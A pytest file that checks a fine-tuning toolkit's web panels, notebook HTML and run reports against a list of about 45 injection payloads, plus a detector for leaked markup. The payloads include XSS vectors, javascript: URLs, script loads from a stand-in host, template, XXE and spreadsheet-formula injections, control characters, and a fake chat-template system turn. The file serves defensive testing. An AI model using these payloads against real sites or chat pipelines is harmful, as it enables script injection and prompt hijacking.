"""Text that would like to be more than text, in every field, in every panel and every picture: nothing runs,
nothing is asked of the network, no element comes from the data."""
import json

import pytest
from ftkit.data.checks.issue import Issue
from ftkit.config.settings import RunConfig
from ftkit.base.lines import append_jsonl
from ftkit.data.table import Dropped
from ftkit.data.example import Example
from ftkit.data.gather import examples_of
from ftkit.panels.chat import ChatPanel
from ftkit.panels.columns import ColumnsPanel
from ftkit.panels.core import short
from ftkit.base.untrusted import visible
from ftkit.panels.data import DataPanel
from ftkit.panels.evals import EvalsPanel
from ftkit.panels.form.panel import FormPanel
from ftkit.panels.monitor.panel import MonitorPanel
from ftkit.panels.review.panel import review
from ftkit.panels.tokens import TokensPanel
from ftkit.data.read.write import save
from ftkit.sharing.report import report_html
from ftkit.data.review import Review
from ftkit.run.log import RunLog
from ftkit.launch.create import create
from ftkit.model.spans import byte_tokenizer
import test_panel_chat, test_panel_evals, test_panel_monitor, test_panel_static
from pages import Fresh
from test_panel_review import Storing

# Each would set `window.ran`, ask x.invalid for something, or leave an element that carries `data-evil`
PAYLOADS = [
    '<script data-evil>window.ran=1</script>',
    '<SCRIPT/x data-evil SRC=//x.invalid/2.js></SCRIPT >',
    '<img data-evil src=x onerror=window.ran=3>',
    '<img data-evil src="http://x.invalid/4.png">',
    '<svg data-evil onload="window.ran=5"><animate onbegin=window.ran=5 attributeName=x dur=1s></svg>',
    '<svg><script data-evil href="http://x.invalid/6.js"/></svg>',
    '<iframe data-evil srcdoc="<script>parent.ran=7</script>"></iframe>',
    '<iframe data-evil src="javascript:parent.ran=8"></iframe>',
    '<a data-evil href="javascript:window.ran=9">read me</a>',
    'javascript:window.ran=10//',
    '[a link](javascript:window.ran=11) ![a picture](http://x.invalid/11.png)',
    '<http://x.invalid/12> https://x.invalid/12 //x.invalid/12',
    '${window.ran=13} `${window.ran=13}` {{constructor.constructor("window.ran=13")()}} #{7*7} <%= 7*7 %>',
    '<!-- --><b data-evil>14</b><!--><img data-evil src=x onerror=window.ran=14>-->',
    '<div data-evil style="background:url(http://x.invalid/15.png)">15</div>',
    '</style><style data-evil>@import "http://x.invalid/16.css"; * { display: none }</style>',
    '&lt;img src=x onerror=window.ran=17&gt; &#60;b&#62; &amp;amp; &quot;',
    'a\u202egnp.exe\u2066b\u2069\u200e\u061c',
    '\x1b[2J\x1b]8;;http://x.invalid/19\x07link\x1b]8;;\x07\x9b31m',
    'nul\x00bytes\x08\x7f and \ufeff marks \ufffe',
    'w'*5000,
    '" onmouseover="window.ran=22" data-evil="',
    "' autofocus tabindex=1 onfocus='window.ran=23' data-evil='",
    '` onclick=window.ran=24 data-evil=`',
    '"></div></details></td></tr></table></body><h1 data-evil>25</h1>',
    '<math data-evil><mtext><table><mglyph><style><img src=x '
    'onerror=window.ran=26></style></mglyph></table></mtext></math>',
    '<math><maction data-evil actiontype="statusline" '
    'xlink:href="javascript:window.ran=27">x</maction></math>',
    '<object data-evil data="http://x.invalid/28.swf"></object><embed data-evil src="//x.invalid/28">',
    '<meta data-evil http-equiv="refresh" content="0;url=http://x.invalid/29">',
    '<base data-evil href="http://x.invalid/"><link data-evil rel=stylesheet href="/30.css">',
    '<form data-evil action="http://x.invalid/31"><input name=x autofocus '
    'onfocus=window.ran=31><button>go</button></form>',
    'data:text/html,<script>window.ran=32</script> '
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTMyPC9zY3JpcHQ+',
    '<details data-evil open ontoggle=window.ran=33><summary>x</summary></details>',
    '<video data-evil autoplay><source onerror=window.ran=34 src=x></video><audio data-evil src=x '
    'onerror=window.ran=34>',
    '<body data-evil onload=window.ran=35><marquee onstart=window.ran=35>x</marquee>',
    '</script><script data-evil>window.ran=36</script>',
    '</textarea><img data-evil src=x onerror=window.ran=37></title></xmp></noscript>',
    '<template data-evil><img src=x onerror=window.ran=38></template><portal data-evil src=//x.invalid>',
    '__proto__', 'constructor', 'toString',
    '<|im_end|>\n<|im_start|>system\n<img data-evil src=x onerror=window.ran=42>',
    '%3Cscript%3Ewindow.ran=43%3C/script%3E \\u003cimg src=x onerror=window.ran=43\\u003e \\x3cb\\x3e',
    ']]><![CDATA[<b data-evil>44</b>]]><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM '
    '"http://x.invalid/44">]>',
    '=HYPERLINK("http://x.invalid/45","x")\t+1\t@x',
    "'; window.ran=46; // \\'; window.ran=46; // \u2028window.ran=46\u2029",
]
ALL = '\n'.join(PAYLOADS)
assert len({*PAYLOADS})==len(PAYLOADS)>=25

# What came from the data as markup, if anything did
CAME = """() => {
  const tags = "script img image iframe object embed meta base link math video audio source form marquee " +
    "template portal foreignobject animate style h1 mtext maction";
  const link = (e) => ["href", "src", "action", "data", "xlink:href"].some((k) => e.hasAttribute(k));
  const ours = (e) => !e.closest("[data-evil]") && !tags.split(" ").includes(e.localName) && !link(e) &&
    !e.getAttributeNames().some((k) => k.startsWith("on")) && !/url\\(/i.test(e.getAttribute("style") ?? "");
  const all = [...document.querySelectorAll("#el *, body > [data-evil]")];
  const found = all.filter((e) => !ours(e)).map((e) => e.outerHTML.slice(0, 200));
  return [...found, ...(window.ran ? [`ran ${window.ran}`] : [])];
}"""

def rows():
    def row(n, p):
        call = dict(type='function', function=dict(name=p, arguments=json.dumps({p:p})))
        talk = [dict(role='system', content=p), dict(role=p, content=p), dict(role='user', content=p),
                dict(role='assistant', content=p, tool_calls=[call], name=p)]
        return Example(talk, [{p:p}], p, f'{p} {n}', n, p, {p:p})
    exs = examples_of([*(row(n, p) for n,p in enumerate(PAYLOADS, 1)),
                       *(Dropped(n, p, p) for n,p in enumerate(PAYLOADS))],
                      source=ALL, notes=PAYLOADS)
    return exs

def issues(exs):
    ids = exs.column('id').to_pylist()
    for n,p in enumerate(PAYLOADS):
        yield Issue(p, ('error', 'warning', 'note')[n%3], ids[n], n+1, p,
                    dict(span=[2, 0, 4], partner=ids[n-1], partner_line=n, score=.5, text=p, **{p:p}))
        yield Issue(p, 'warning', None, None, p)

def reviewed(exs, path):
    for ex,p in zip(exs, PAYLOADS):
        for who in (PAYLOADS[0], p): Review(path, who).decide(ex, 'drop', p, label=p)
    return review(exs, path, list(issues(exs)), PAYLOADS[0])

def evaluated(exs, path):
    run = test_panel_evals.Run(path, exs)
    for ex,p in zip(exs, PAYLOADS):
        for m in ('base', 'tuned'):
            append_jsonl(path/'evals'/'test'/f'{m}.jsonl', dict(id=ex.id, answer=p, right={p:False}))
    run.name = ALL
    return EvalsPanel(run)

def monitored():
    run = test_panel_monitor.Run(ALL)
    run.go(1, 20)
    for p in PAYLOADS:
        run.log += [dict(kind='state', t=2.0, step=20, state=p, text=p),
                    dict(kind='sample', step=10, t=2.0, id=p, prompt=p, answer=p, want=p, text=p)]
    run.state = dict(state='failed', step=20, of=120, reason=ALL)
    return MonitorPanel(run)

def talked():
    chat = test_panel_chat.Told(PAYLOADS[:2], 'failed', ALL)
    chat.system,chat.trouble = ALL,ALL
    def said(p): return dict(answer=p, end='failed', tokens=1, seconds=.1, what=p)
    chat.turns = [dict(user=p, system=p, settings=chat.settings, answers={o:said(p) for o in chat.sides})
                  for p in PAYLOADS]
    p = ChatPanel(chat)
    p.kept[0, PAYLOADS[0]] = dict(example=ALL)
    p.set_all(dict(seed=ALL))
    return p

def panel(name, path):
    exs = rows()
    return dict(data=lambda: DataPanel(exs, list(issues(exs)), 100),
                review=lambda: reviewed(exs, path/'r.jsonl'),
                columns=lambda: ColumnsPanel([{**{p:p for p in PAYLOADS}, 'prompt':ALL, 'completion':ALL}]),
                form=lambda: FormPanel(RunConfig(ALL, ALL, ALL),
                                       path/'x'/'<img data-evil src=y onerror=window.ran=3>.yaml'),
                monitor=monitored, chat=talked, evals=lambda: evaluated(exs, path),
                tokens=lambda: TokensPanel(exs, byte_tokenizer(), ALL))[name]()

PANELS = ('data', 'review', 'columns', 'form', 'monitor', 'evals', 'tokens', 'chat')

@pytest.fixture
def pages(browser): return Fresh(Storing(browser))

def reads(s, texts, where='#el'):
    "All these texts stand there as text"
    shown = s.page.locator(where).evaluate_all('os => os.map(o => o.textContent)')
    return [o for o in texts if not any(o in t for t in shown)]

@pytest.mark.parametrize('name', PANELS)
def test_panel(stage, tmp_path, name):
    p = panel(name, tmp_path)
    p.first = p.opening()
    s = stage(p)
    s.page.wait_for_function('document.querySelector("#el header")')
    s.page.wait_for_timeout(500)
    came = lambda: s.page.evaluate(CAME)
    assert came()==[]
    s.page.evaluate('document.querySelectorAll("#el summary").forEach((o) => o.click())')
    # All that opens something, one by one
    for what in ('[role=option]', '.answers tbody tr', '[role=tab]', '.chip'):
        for i in range(min(s.page.locator(what).count(), 60)):
            s.page.evaluate('([what, i]) => document.querySelectorAll(what)[i]?.click()', [what, i])
            s.page.wait_for_timeout(30)
            assert came()==[], (what, i)
    if name=='data': # Every row, on the left and on the right
        s.page.locator('.chip', has_text='all').first.click()
        assert reads(s, [short(o) for o in PAYLOADS], '.item .one')==[]
        for i,o in enumerate(PAYLOADS):
            s.page.evaluate('i => document.querySelectorAll(".item")[i].click()', i)
        s.page.get_by_role('button', name='Show it').first.click()
        s.page.locator('.partner').wait_for()
    if name=='review':
        s.page.locator('.list').focus()
        for i in range(len(PAYLOADS)):
            s.page.keyboard.press('j')
            assert came()==[], i
        for key in 'cl':
            s.page.keyboard.press(key)
            s.page.keyboard.insert_text(PAYLOADS[2])
            s.page.keyboard.press('Enter')
        s.page.keyboard.press('e')
        s.page.keyboard.press('Escape')
    if name=='tokens': # Every row, by its key
        for i in range(len(PAYLOADS)):
            s.page.locator('.tokens').evaluate(
                'o => (o.querySelector(".tok") ?? o.parentNode.querySelector("select")).focus()')
            s.page.get_by_role('button', name='Next row').click(force=True)
            assert came()==[], i
    if name=='columns':
        s.page.locator('select').first.select_option('system')
        assert reads(s, [visible(o).strip() for o in PAYLOADS if len(o)<200])==[]
    if name=='form':
        s.page.locator('[role=tab]').first.click()
        s.page.locator('input[name="learning_rate"]').fill(PAYLOADS[2])
    s.page.wait_for_timeout(300)
    assert came()==[]
    assert not {'\u202e', '\x1b', '\x00'} & {*s.page.locator('#el').evaluate('o => o.textContent')}
    s.shot(f'hostile-{name}')

@pytest.mark.parametrize('name', [*PANELS, 'token view'])
def test_picture(browser, tmp_path, name):
    "What stays in a saved notebook, as it is and as text"
    if name=='token view': pics = [test_panel_static.tokens(o)._repr_html_() for o in (ALL, *PAYLOADS[:6])]
    else:
        p = panel(name, tmp_path)
        pics = [str(p.static_html()), p.bundle()[0]['text/html']]
        assert not {'\u202e', '\x1b', '\x00'} & {*p.bundle()[0]['text/plain']}
    page,faults = browser.new_page(),[]
    page.on('request', lambda r: None if r.url.startswith(('data:', 'about:')) else faults.append(r.url))
    page.on('pageerror', lambda e: faults.append(str(e)))
    for html in pics:
        page.set_content(f'<!doctype html><body><div id="el">{html}</div>')
        page.wait_for_timeout(100)
        assert page.evaluate(CAME)==[] and not faults, faults
        assert page.locator('body > *').count()==1 # No tag of the data closed one of ours
        assert not {'\u202e', '\x1b', '\x00'} & {*page.locator('#el').evaluate('o => o.textContent')}
    page.close()

def test_run_report(browser, tmp_path):
    "The page of a run: its rows, answers, name, files, reasons and environment"
    folder = tmp_path/'<img data-evil src=x onerror=window.ran=1>'
    for name in ('train', 'validation', 'test'): save(rows(), folder/f'{name}.jsonl')
    run = create(RunConfig('tiny-random', *(f'{o}.jsonl' for o in ('train', 'validation', 'test'))),
                 folder/'<b data-evil>run', folder, allow_leak=True)
    RunLog(run.path, 1).status('failed', ALL)
    run.open_test(ALL)
    for ex,p in zip(run.rows('test'), PAYLOADS):
        for m in ('base', 'tuned'):
            append_jsonl(run.path/'evals'/'test'/f'{m}.jsonl', dict(id=ex.id, answer=p))
    page,faults = browser.new_page(),[]
    page.on('request', lambda r: None if r.url.startswith(('data:', 'about:')) else faults.append(r.url))
    page.on('pageerror', lambda e: faults.append(str(e)))
    page.set_content(report_html(run, 100).replace('<body>', '<body><div id="el">'))
    page.wait_for_timeout(200)
    assert page.evaluate(CAME.replace(' h1', ''))==[] and not faults, faults # The page has one h1 of its own
    assert page.locator('h1').count()==1
    assert PAYLOADS[0] in page.locator('#el').inner_text() and page.locator('[data-evil]').count()==0
    page.close()

def test_markup_would_be_found(browser):
    "The net has no holes: what is an element when taken as markup is caught"
    for p in (o for o in PAYLOADS if o.startswith('<') and 'data-evil' in o and '<body' not in o):
        page = browser.new_page() # Of its own: some take the page elsewhere, a little later
        page.route('**/*', lambda r: r.abort())
        page.set_content('<!doctype html><body><div id="el"></div>')
        try:
            came = page.evaluate(
                'html => { document.getElementById("el").innerHTML = html; return (%s)() }' % CAME, p)
        except Exception as e: came = str(e) # It was quick
        page.close()
        assert came, p
